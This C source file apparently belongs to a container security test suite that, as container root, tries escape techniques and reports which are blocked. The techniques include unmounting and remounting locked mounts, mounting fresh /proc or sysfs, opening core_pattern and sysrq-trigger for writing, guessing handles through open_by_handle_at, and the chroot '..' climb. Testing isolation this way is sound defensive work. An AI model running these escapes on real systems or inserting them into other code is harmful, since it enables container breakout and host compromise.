/* Runs inside the container as its root: what can be done with mounts and file handles (S13 to
 * S16). */
#include "attack.h"
#include "probe.h"

#include <dirent.h>
#include <linux/fs.h>
#include <sys/ioctl.h>

#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

/* ---- S13: mounts travel ---- */

void travel(void)
{
	for (int i = 0; i < 100; i++) {
		char p[64];

		snprintf(p, sizeof(p), "/tmp/travel-%d", i);
		mkdir(p, 0755);
		mount("travel", p, "tmpfs", 0, NULL);
	}
	mount("travel", "/mnt", "tmpfs", 0, NULL);
	mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL);
	mount("travel", "/root", "tmpfs", 0, NULL);
	umount2("/run/host/incoming", MNT_DETACH);
	umount2("/etc/resolv.conf", MNT_DETACH);
	report(true, "travel", "mounted");
}

/* ---- every mount: umount, remount, move, over-mount, nested user namespace ---- */

struct entry {
	int id, parent;
	char path[256], options[128], root[256];
};

static int read_mounts(struct entry *entries, int room)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[4096];
	int n = 0;

	while (f && n < room && fgets(line, sizeof(line), f)) {
		struct entry *e = entries + n;

		if (sscanf(line, "%d %d %*s %255s %255s %127s", &e->id, &e->parent, e->root,
			   e->path, e->options) == 5)
			n++;
	}
	if (f)
		fclose(f);
	return n;
}

static int in_child(int (*fn)(const struct entry *), const struct entry *e)
{
	int status, pid = fork();

	if (pid == 0)
		_exit(fn(e) & 255);
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 255;
}

/* Has it attributes that lifting them would gain something? */
static bool restricted(const struct entry *e)
{
	return !strncmp(e->options, "ro", 2) || strstr(e->options, "nosuid") ||
	       strstr(e->options, "nodev") || strstr(e->options, "noexec");
}

/* Tried in a throw-away mount namespace that the SAME user namespace owns: not locked anew by the
 * copy. */
static int fresh(void)
{
	return unshare(CLONE_NEWNS) < 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0
		       ? errno
		       : 0;
}

static int do_umount(const struct entry *e)
{
	int r = fresh();

	if (r)
		return r;
	return code(umount2(e->path, MNT_DETACH));
}

static int do_remount(const struct entry *e)
{
	int r = fresh();

	if (r)
		return r;
	/* make it writable and allow everything */
	return code(mount(NULL, e->path, NULL, MS_REMOUNT | MS_BIND, NULL));
}

static int do_move(const struct entry *e)
{
	int r = fresh();
	struct stat st;

	if (r)
		return r;
	mkdir("/tmp/.moved", 0755);
	if (stat(e->path, &st) == 0 && !S_ISDIR(st.st_mode)) {
		int fd = open("/tmp/.moved-file", O_CREAT | O_CLOEXEC | O_WRONLY, 0600);

		if (fd >= 0)
			close(fd);
		return code(mount(e->path, "/tmp/.moved-file", NULL, MS_MOVE, NULL));
	}
	return code(mount(e->path, "/tmp/.moved", NULL, MS_MOVE, NULL));
}

/* Through a nested user namespace everything must stay locked, whatever it was before. */
static int do_nested(const struct entry *e)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
		return errno;
	int r = code(umount2(e->path, MNT_DETACH));

	return r != 0 && restricted(e)
		       ? code(mount(NULL, e->path, NULL, MS_REMOUNT | MS_BIND, NULL))
		       : r;
}

/* A non-recursive bind would show what lies below a mask. */
static int do_peek(const struct entry *e)
{
	int r = fresh();
	char parent[256], *slash;

	if (r)
		return r;
	snprintf(parent, sizeof(parent), "%s", e->path);
	slash = strrchr(parent, '/');
	if (slash == parent)
		slash[1] = 0;
	else if (slash)
		*slash = 0;
	mkdir("/tmp/.peek", 0755);
	return code(mount(parent, "/tmp/.peek", NULL, MS_BIND, NULL));
}

void mounts(void)
{
	static struct entry entries[256];
	int n = read_mounts(entries, 256);

	/* lines for the driver, which knows what the plan marked as locked: "mount PATH
	 * umount|remount|move|nested|peek ERROR" */
	for (int i = 0; i < n; i++) {
		const struct entry *e = entries + i;

		printf("mount %s umount %s\n", e->path, words(in_child(do_umount, e)));
		if (restricted(e))
			printf("mount %s remount %s\n", e->path, words(in_child(do_remount, e)));
		printf("mount %s move %s\n", e->path, words(in_child(do_move, e)));
		printf("mount %s nested %s\n", e->path, words(in_child(do_nested, e)));
		printf("mount %s peek %s\n", e->path, words(in_child(do_peek, e)));
		fflush(stdout);
	}
	report(n > 5, "mounts-tried", "%d", n);
}

/* ---- S14: a fresh /proc or /sys in a nested user namespace ---- */

static int fresh_fs(const char *type)
{
	int status, pid;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET) < 0)
		return errno;
	pid = fork();
	if (pid == 0) {
		mkdir("/tmp/.fresh", 0755);
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		_exit(code(mount(type, "/tmp/.fresh", type, 0, NULL)) & 255);
	}
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 255;
}

void unmask(void)
{
	static const char *const types[] = { "proc", "sysfs" };

	for (int i = 0; i < 2; i++) {
		int status, pid = fork();

		if (pid == 0)
			_exit(fresh_fs(types[i]));
		waitpid(pid, &status, 0);
		report(WEXITSTATUS(status) != 0, "fresh", "%s in a nested user namespace: %s",
		       types[i], words(WEXITSTATUS(status)));
	}
	/* in our own user namespace a new /proc is ours to have, but what is masked must stay
	 * harmless */
	if (unshare(CLONE_NEWNS) == 0) {
		mkdir("/tmp/.own", 0755);
		mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
		if (mount("proc", "/tmp/.own", "proc", 0, NULL) == 0) {
			static const char *const files[] = { "sysrq-trigger",
							     "sys/kernel/core_pattern",
							     "sys/kernel/modprobe",
							     "irq/default_smp_affinity" };

			for (size_t i = 0; i < 4; i++) {
				char p[128];
				int fd;

				snprintf(p, sizeof(p), "/tmp/.own/%s", files[i]);
				fd = open(p, O_WRONLY | O_CLOEXEC);
				report(fd < 0, "own-proc", "%s %s", files[i],
				       fd < 0 ? strerror(errno) : "writable");
			}
			int fd = open("/tmp/.own/kcore", O_RDONLY | O_CLOEXEC);
			report(fd < 0, "own-proc", "kcore %s",
			       fd < 0 ? strerror(errno) : "readable");
			fd = open("/tmp/.own/kmsg", O_RDONLY | O_CLOEXEC | O_NONBLOCK);
			report(fd < 0, "own-proc", "kmsg %s",
			       fd < 0 ? strerror(errno) : "readable");
		} else {
			report(true, "own-proc", "%s", strerror(errno));
		}
	}
}

/* ---- S15, S16: handles, climbing ---- */

void handles(const char *wanted)
{
	struct {
		struct file_handle h;
		unsigned char data[128];
	} handle;
	int id, dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), hits = 0;

	for (unsigned long inode = 2; inode < 20; inode++) {
		unsigned int words32[2] = { (unsigned int)inode, 0 };
		int fd;

		memset(&handle, 0, sizeof(handle));
		handle.h.handle_bytes = 8;
		handle.h.handle_type = 1;
		memcpy(handle.h.f_handle, words32, 8);
		fd = (int)syscall(SYS_open_by_handle_at, dir, &handle, O_RDONLY | O_CLOEXEC);
		if (fd >= 0)
			hits++;
	}
	report(hits == 0, "handles-guessed", "%d opened", hits);
	/* one that surely exists: our own root's */
	memset(&handle, 0, sizeof(handle));
	handle.h.handle_bytes = 128;
	if (syscall(SYS_name_to_handle_at, AT_FDCWD, wanted, &handle, &id, 0) == 0) {
		int fd = (int)syscall(SYS_open_by_handle_at, dir, &handle, O_RDONLY | O_CLOEXEC);

		report(fd < 0, "handle-real", "%s", fd < 0 ? strerror(errno) : "opened");
	} else {
		report(true, "handle-real", "no handle: %s", strerror(errno));
	}
}

void climb(void)
{
	int out = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct stat a, b;

	mkdir("/tmp/.jail", 0755);
	if (chroot("/tmp/.jail") == 0 && fchdir(out) == 0) {
		for (int i = 0; i < 100; i++)
			if (chdir("..") < 0)
				break;
		if (chroot(".") == 0 && stat("/", &a) == 0 && fstat(out, &b) == 0)
			report(a.st_dev == b.st_dev && a.st_ino == b.st_ino, "climb",
			       "ends at the container's root");
	}
	report(access("/media/CANARY", F_OK) < 0, "canary", "%s", words(errno));
}
